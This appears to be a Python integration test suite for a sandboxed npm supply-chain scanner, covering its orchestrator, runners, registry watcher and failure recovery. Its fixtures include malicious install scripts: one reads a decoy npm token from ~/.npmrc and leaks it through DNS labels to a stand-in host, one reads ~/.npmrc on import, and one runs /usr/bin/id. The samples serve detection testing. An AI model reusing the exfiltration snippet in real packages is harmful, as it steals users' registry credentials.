"""fangs-orchestrator and fangs-runner as real processes on loopback: scans
submitted, dispatched to runners, streamed back, judged; runners lost and
orchestrators restarted without losing or repeating a job; the watcher."""

import json
import os
import signal
import subprocess
import sys
import tempfile
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import daemons  # noqa: E402
import fakereg  # noqa: E402
from daemons import Orchestrator, Runner, fangs, run_of, wait_for  # noqa: E402

ROOT = os.environ.get("FANGS_SOURCE_ROOT", os.path.join(os.path.dirname(__file__), "..", ".."))
BENIGN = os.path.join(ROOT, "tests", "fixtures", "packages", "benign-1.0.0")
FINISHED = ("succeeded", "failed", "timed_out")
HB = ["--heartbeat-timeout-ms", "3000", "--poll-max-ms", "2000"]


def benign_files(postinstall=None, index=None):
    files = {}
    for n in os.listdir(BENIGN):
        with open(os.path.join(BENIGN, n), "rb") as f:
            files[n] = f.read()
    if postinstall is not None:
        files["postinstall.js"] = postinstall.encode()
    if index is not None:
        files["index.js"] = index.encode()
    return files


SLOW = "setTimeout(() => {}, 120000);\n"
NEW_EXEC = ("require('child_process').execFileSync('/usr/bin/id');\n"
            "require('fs').writeFileSync(require('path').join(__dirname, 'x.txt'), 'x');\n")
# sends the decoy npm token out in DNS labels (inside the sandbox: no network)
EXFIL = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
         "const m = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').match(/_authToken=(\\S+)/);\n"
         "const labels = Buffer.from(m[1]).toString('base64url').match(/.{1,24}/g).join('.');\n"
         "require('dns').lookup(labels + '.t.daemon.invalid', () => {});\n")


class DaemonTest(unittest.TestCase):
    def setUp(self):
        self.tmpd = tempfile.TemporaryDirectory(prefix="fangs-daemons-")
        self.tmp = self.tmpd.name
        # the sandbox's unprivileged user reads the runners' npm caches in here
        os.chmod(self.tmp, 0o755)
        self.db = os.path.join(self.tmp, "fangs.db")
        self.reg = fakereg.FakeRegistry()
        self.procs = []

    def tearDown(self):
        for p in reversed(self.procs):
            if p.alive():
                p.stop(signal.SIGKILL if isinstance(p, Runner) else signal.SIGTERM)
        self.reg.close()
        if self._outcome_failed():
            for p in self.procs:
                sys.stderr.write("---- %s\n%s\n" % (p.log_path, p.text()[-6000:]))
        self.tmpd.cleanup()

    def _outcome_failed(self):
        result = getattr(getattr(self, "_outcome", None), "result", None)
        if result is None:
            return True
        return any(t is self for t, _ in list(result.errors) + list(result.failures))

    def test_watcher_private_registry(self):
        self.reg.token = "s3cret"
        self.reg.publish("@corp/tool", "2.0.0", benign_files())
        fangs(self.db, "package", "add", "@corp/tool")
        # without the token: refused, nothing queued
        o = self.orchestrator(["--registry", self.reg.url, "--watch-interval-ms", "200"] + HB)
        wait_for(lambda: self.reg.count("/@corp%2ftool", 401) >= 1, 10, "a refused poll")
        self.assertEqual(fangs(self.db, "run", "list"), [])
        self.assertIn("HTTP 401", o.text())
        self.assertEqual(o.stop(), 0)
        # with it (from the variable the configuration names): the latest is queued once
        o = self.orchestrator(["--registry", self.reg.url, "--watch-interval-ms", "200"] + HB,
                              name="orchestrator2", env={"FANGS_REGISTRY_TOKEN": "s3cret"})
        wait_for(lambda: len(fangs(self.db, "run", "list")) == 1, 10, "the scan queued")
        wait_for(lambda: self.reg.count("/@corp%2ftool", 304) >= 2, 10, "conditional polls")
        runs = fangs(self.db, "run", "list")
        self.assertEqual([(r["package"], r["version"], r["state"]) for r in runs], [("@corp/tool", "2.0.0", "queued")])

    def orchestrator(self, extra=(), **kw):
        o = Orchestrator(self.tmp, self.db, extra=list(extra), **kw)
        self.procs.append(o)
        return o

    def runner(self, o, rid, extra=(), **kw):
        # each runner with its own token: rb's in FANGS_TOKEN, the others' in a --token-file
        r = Runner(self.tmp, o.url, rid, self.reg.url, extra=list(extra), token=o.runner_token(rid),
                   token_env=(rid == "rb"), **kw)
        self.procs.append(r)
        return r

    def state(self, run_id):
        return run_of(self.db, run_id)["state"]

    def wait_finished(self, run_id, timeout=120, judged_if_failed=False):
        """Until the run is finished and, unless it failed (judged_if_failed:
        its install failed, and it is judged too), judged: its state is
        stored just before the orchestrator runs the differ on it."""
        def judged():
            st = self.state(run_id)
            if st not in FINISHED:
                return False
            return (st == "failed" and not judged_if_failed) or any("run %s analysed" % run_id in p.text() for p in self.procs
                                         if isinstance(p, Orchestrator))
        wait_for(judged, timeout, "run %s to finish" % run_id, step=0.3)
        return run_of(self.db, run_id)

    def test_two_runners_scan_and_deviations(self):
        self.reg.publish("benign", "1.0.0", benign_files())
        self.reg.publish("benign", "1.1.0", benign_files(NEW_EXEC))
        o = self.orchestrator(["--no-watch"] + HB)
        self.runner(o, "ra")
        self.runner(o, "rb")
        wait_for(lambda: o.metrics().get('fangs_runners{state="up"}') == 2, 20, "two runners")
        first = o.submit("benign", "1.0.0")
        r1 = self.wait_finished(first)
        self.assertEqual(r1["state"], "succeeded", r1)
        self.assertTrue(r1["is_baseline"])
        self.assertGreater(r1["event_count"], 0)
        self.assertEqual(r1["event_count"], r1["events_emitted"] - r1["events_dropped"])
        self.assertIn("postinstall", r1["install_output"])
        second = o.submit("benign", "1.1.0")
        r2 = self.wait_finished(second)
        self.assertEqual(r2["state"], "succeeded", r2)
        self.assertGreater(r2["deviation_count"], 0)
        values = {d["value"] for d in r2["deviations"]}
        self.assertTrue(any("/usr/bin/id" in v for v in values), values)
        m = o.metrics()
        self.assertEqual(m['fangs_run_results_total{state="succeeded"}'], 2)
        self.assertGreaterEqual(m["fangs_events_received_total"], r1["event_count"] + r2["event_count"])
        self.assertEqual(m["fangs_queue_depth"], 0)

    def test_import_phase_through_a_runner(self):
        # 1.1.0's payload runs when the package is required, not in a script
        self.reg.publish("benign", "1.0.0", benign_files())
        self.reg.publish("benign", "1.1.0", benign_files(index="require('fs').readFileSync("
                                                           "require('os').homedir() + '/.npmrc');\n"
                                                           "module.exports = 42;\n"))
        o = self.orchestrator(["--no-watch"] + HB)
        self.runner(o, "ra")
        r1 = self.wait_finished(o.submit("benign", "1.0.0"))
        self.assertTrue(r1["is_baseline"], r1)
        self.assertIn("[fangs] import: exited with status 0", r1["install_output"])
        r2 = self.wait_finished(o.submit("benign", "1.1.0"))
        self.assertEqual(r2["state"], "succeeded", r2)
        got = {(d["kind"], d["value"], d["actor"], d["origin"]["script"]) for d in r2["deviations"]}
        self.assertIn(("fs_cred_read", "~/.npmrc", "import", "import"), got)
        self.assertIn(("rule:cred-read-by-script", "~/.npmrc", "import", "import"), got)
        p = subprocess.run([daemons.FANGS, "--sqlite-path", self.db, "--json", "events", "list", r2["id"]],
                           capture_output=True, text=True, timeout=60)
        self.assertEqual(p.returncode, 0, p.stderr)
        evs = [json.loads(line) for line in p.stdout.splitlines() if line.strip()]
        self.assertTrue(any(e.get("phase") == "import" and e.get("path", "").endswith("/.npmrc") for e in evs))

    def test_failed_install_is_judged(self):
        self.reg.publish("benign", "1.0.0", benign_files())
        self.reg.publish("benign", "1.1.0", benign_files(NEW_EXEC + "console.error('benign: giving up');\n"
                                                          "process.exit(1);\n"))
        self.reg.publish("benign", "1.2.0", benign_files(NEW_EXEC))
        o = self.orchestrator(["--no-watch"] + HB)
        self.runner(o, "ra")
        r1 = self.wait_finished(o.submit("benign", "1.0.0"))
        self.assertTrue(r1["is_baseline"], r1)
        # the postinstall exits 1: a failed run with npm's reason, judged
        # through the runner and the orchestrator as fangs scan judges it
        r2 = self.wait_finished(o.submit("benign", "1.1.0"), judged_if_failed=True)
        self.assertEqual(r2["state"], "failed", r2)
        self.assertEqual(r2["exit_code"], 1)
        self.assertTrue(r2["error"].startswith("npm exited with status 1: "), r2["error"])
        self.assertIn("benign: giving up", r2["error"])
        self.assertFalse(r2["is_baseline"])
        self.assertTrue(any("/usr/bin/id" in d["value"] for d in r2["deviations"]), r2["deviations"])
        self.assertEqual([r["version"] for r in fangs(self.db, "baseline", "list", "--package", "benign")],
                         ["1.0.0"])
        # the next release is compared with the good baseline
        r3 = self.wait_finished(o.submit("benign", "1.2.0"))
        self.assertEqual(r3["state"], "succeeded", r3)
        self.assertTrue(any("/usr/bin/id" in d["value"] for d in r3["deviations"]), r3["deviations"])

    def test_install_output_of_bytes_that_are_not_utf8(self):
        # 60 KB of bytes that are not UTF-8, then two-byte characters, then
        # a last line: the runner sends the tail made UTF-8 and within the
        # wire's bound, cut at a character, and the result is kept
        self.reg.publish("benign", "1.0.0", benign_files(
            "process.stdout.write(Buffer.alloc(60000, 0xff));\n"
            "process.stdout.write('\\u00e9'.repeat(3000) + '\\nthe last line\\n');\n"))
        o = self.orchestrator(["--no-watch"] + HB)
        self.runner(o, "ra")
        r = self.wait_finished(o.submit("benign", "1.0.0"))
        self.assertEqual(r["state"], "succeeded", r)
        out = r["install_output"]
        self.assertLessEqual(len(out.encode()), 64 * 1024)
        self.assertIn("\u00e9" * 3000 + "\nthe last line", out)
        # U+FFFD for each byte that was not UTF-8, the cut between two of them
        self.assertTrue(out.startswith("\ufffd" * 100), out[:20])
        self.assertGreater(len(out.encode()), 64 * 1024 - 3)

    def test_install_output_of_control_characters(self):
        # each control character takes six bytes in JSON (\\u0001): 64 KB
        # of them must not make the result too large to be taken, which
        # would leave the run unjudged
        self.reg.publish("benign", "1.0.0", benign_files(
            NEW_EXEC + "process.stdout.write(Buffer.alloc(70000, 1));\n"
            "process.stdout.write('\\nthe last line\\n');\n"))
        o = self.orchestrator(["--no-watch"] + HB)
        self.runner(o, "ra")
        r = self.wait_finished(o.submit("benign", "1.0.0"))
        self.assertEqual(r["state"], "succeeded", r)
        self.assertIn("\x01" * 1000 + "\nthe last line", r["install_output"])
        self.assertTrue(r["is_baseline"], r)

    def test_failed_install_with_bytes_that_are_not_utf8(self):
        # the reason quotes the install's last lines, bytes that are not
        # UTF-8 among them: the result is taken (the error within its bound,
        # made UTF-8) and the failed run is judged against the baseline
        self.reg.publish("benign", "1.0.0", benign_files())
        self.reg.publish("benign", "1.1.0", benign_files(
            NEW_EXEC + "for (let i = 0; i < 8; i++) process.stderr.write(Buffer.concat("
            "[Buffer.alloc(400, 0xfe), Buffer.from('\\n')]));\nprocess.exit(1);\n"))
        o = self.orchestrator(["--no-watch"] + HB)
        self.runner(o, "ra")
        self.wait_finished(o.submit("benign", "1.0.0"))
        r = self.wait_finished(o.submit("benign", "1.1.0"), judged_if_failed=True)
        self.assertEqual((r["state"], r["exit_code"]), ("failed", 1), r)
        self.assertTrue(r["error"].startswith("npm exited with status 1: "), r["error"][:200])
        self.assertIn("\ufffd" * 100, r["error"])
        self.assertLessEqual(len(r["error"].encode()), 4096)
        self.assertIn("\ufffd" * 400 + "\n", r["install_output"])
        self.assertTrue(any("/usr/bin/id" in d["value"] for d in r["deviations"]), r["deviations"])

    def test_decoy_leaves_through_a_runner(self):
        # the runner's sandbox planted the decoys; the orchestrator judges
        self.reg.publish("benign", "1.0.0", benign_files(EXFIL))
        o = self.orchestrator(["--no-watch"] + HB)
        self.runner(o, "ra")
        r = self.wait_finished(o.submit("benign", "1.0.0"))
        self.assertEqual(r["state"], "succeeded", r)
        hits = [d for d in r["deviations"] if d["kind"] == "rule:decoy-exfiltrated"]
        self.assertEqual(len(hits), 1, r["deviations"])
        self.assertEqual(hits[0]["severity"], "critical")
        self.assertRegex(hits[0]["value"], r"^~/\.npmrc \(base64(url)?, lower-cased, split across DNS labels\)$")
        self.assertEqual(r["review"], "pending")

    def test_least_loaded_and_target(self):
        self.reg.publish("slow", "1.0.0", benign_files(SLOW))
        self.reg.publish("benign", "1.0.0", benign_files())
        o = self.orchestrator(["--no-watch"] + HB)
        self.runner(o, "ra", extra=["--duration-ms", "6000"], max_scans=2)
        self.runner(o, "rb", extra=["--duration-ms", "6000"], max_scans=2)
        wait_for(lambda: o.metrics().get('fangs_runners{state="up"}') == 2, 20, "two runners")
        busy = o.submit("slow", "1.0.0", runner="ra")
        wait_for(lambda: self.state(busy) == "running", 30, "the slow run to start")
        self.assertEqual(run_of(self.db, busy)["runner"], "ra")
        # ra has one scan, rb none: an open job goes to rb
        other = o.submit("benign", "1.0.0")
        wait_for(lambda: self.state(other) != "queued", 30, "the second run to start")
        self.assertEqual(run_of(self.db, other)["runner"], "rb")
        self.assertEqual(self.wait_finished(busy)["state"], "timed_out")
        self.assertEqual(self.wait_finished(other)["state"], "succeeded")

    def test_queued_before_any_runner(self):
        self.reg.publish("benign", "1.0.0", benign_files())
        o = self.orchestrator(["--no-watch"] + HB)
        run = o.submit("benign", "1.0.0")
        time.sleep(1.5)
        self.assertEqual(self.state(run), "queued")
        self.assertEqual(o.metrics()["fangs_queue_depth"], 1)
        r = self.runner(o, "late")
        self.assertEqual(self.wait_finished(run)["state"], "succeeded")
        # idle in a long poll, it stops at once on SIGTERM, and cleanly
        t0 = time.time()
        self.assertEqual(r.stop(), 0)
        self.assertLess(time.time() - t0, 5)

    def test_lost_runners(self):
        self.reg.publish("slow", "1.0.0", benign_files(SLOW))
        o = self.orchestrator(["--no-watch"] + HB)
        a = self.runner(o, "ra")
        run = o.submit("slow", "1.0.0")
        wait_for(lambda: self.state(run) == "running", 30, "the run to start on ra")
        self.assertEqual(run_of(self.db, run)["runner"], "ra")
        b = self.runner(o, "rb")
        time.sleep(1)
        a.stop(signal.SIGKILL)
        # evicted after the heartbeat timeout, the job goes to rb
        wait_for(lambda: run_of(self.db, run)["runner"] == "rb" and self.state(run) == "running", 30,
                 "the run to move to rb")
        self.assertIn("runner ra missed its heartbeats", o.text())
        b.stop(signal.SIGKILL)
        # a second loss: the run fails instead of waiting forever
        r = self.wait_finished(run, timeout=30)
        self.assertEqual(r["state"], "failed")
        self.assertIn("rb was lost", r["error"])
        m = o.metrics()
        self.assertEqual(m["fangs_runners_evicted_total"], 2)
        self.assertEqual(m["fangs_jobs_requeued_total"], 1)
        self.assertEqual(m["fangs_jobs_lost_total"], 1)
        self.assertEqual(m['fangs_runs{state="failed"}'], 1)

    def test_orchestrator_restart(self):
        for v in ("1.0.0", "1.0.1", "1.0.2"):
            self.reg.publish("benign", v, benign_files())
        o = self.orchestrator(["--no-watch"] + HB)
        port = o.port
        runs = [o.submit("benign", v) for v in ("1.0.0", "1.0.1", "1.0.2")]
        self.assertEqual(o.stop(), 0)
        o2 = self.orchestrator(["--no-watch"] + HB, port=port, name="orchestrator2")
        self.assertEqual(o2.metrics()["fangs_queue_depth"], 3)
        r = self.runner(o2, "ra", max_scans=2)
        for run in runs:
            self.assertEqual(self.wait_finished(run)["state"], "succeeded")
        # the runner keeps going across a restart of the orchestrator
        self.assertEqual(o2.stop(), 0)
        time.sleep(1)
        o3 = self.orchestrator(["--no-watch"] + HB, port=port, name="orchestrator3")
        self.reg.publish("benign", "1.0.3", benign_files())
        last = o3.submit("benign", "1.0.3")
        self.assertEqual(self.wait_finished(last)["state"], "succeeded")
        for run in runs + [last]:
            self.assertEqual(r.text().count("run %s: scanning" % run), 1, "scanned once: " + run)
        m = o3.metrics()
        self.assertEqual(m['fangs_runs{state="done"}'], 4)
        self.assertEqual(m["fangs_queue_depth"], 0)

    def test_watcher(self):
        self.reg.publish("wpkg", "1.0.0", benign_files())
        fangs(self.db, "package", "add", "wpkg")
        o = self.orchestrator(["--registry", self.reg.url, "--watch-interval-ms", "300"] + HB)
        self.runner(o, "ra")

        def runs_of(pkg):
            return sorted((r["version"], r["state"]) for r in fangs(self.db, "run", "list", "--package", pkg))

        # newly watched: its latest is scanned
        wait_for(lambda: runs_of("wpkg") == [("1.0.0", "succeeded")], 60, "wpkg@1.0.0 scanned")
        # nothing new: conditional requests answered 304
        wait_for(lambda: self.reg.count("/wpkg", 304) >= 2, 10, "304 answers")
        self.assertGreaterEqual(o.metrics()["fangs_watcher_not_modified_total"], 2)
        # two publications: both scanned, oldest first, once each
        self.reg.publish("wpkg", "1.1.0", benign_files())
        self.reg.publish("wpkg", "1.0.5", benign_files())  # published later, lower number
        wait_for(lambda: len(runs_of("wpkg")) == 3 and all(s in FINISHED for _, s in runs_of("wpkg")), 90,
                 "the new versions scanned")
        time.sleep(1.5)
        got = fangs(self.db, "run", "list", "--package", "wpkg")
        self.assertEqual(sorted(r["version"] for r in got), ["1.0.0", "1.0.5", "1.1.0"])
        by_created = [r["version"] for r in sorted(got, key=lambda r: r["created_ns"])]
        self.assertEqual(by_created, ["1.0.0", "1.1.0", "1.0.5"])
        pkg = [p for p in fangs(self.db, "package", "list") if p["name"] == "wpkg"][0]
        self.assertEqual(pkg["last_seen_version"], "1.0.5")
        self.assertEqual(o.metrics()["fangs_watcher_queued_total"], 3)


if __name__ == "__main__":
    unittest.main(verbosity=2)
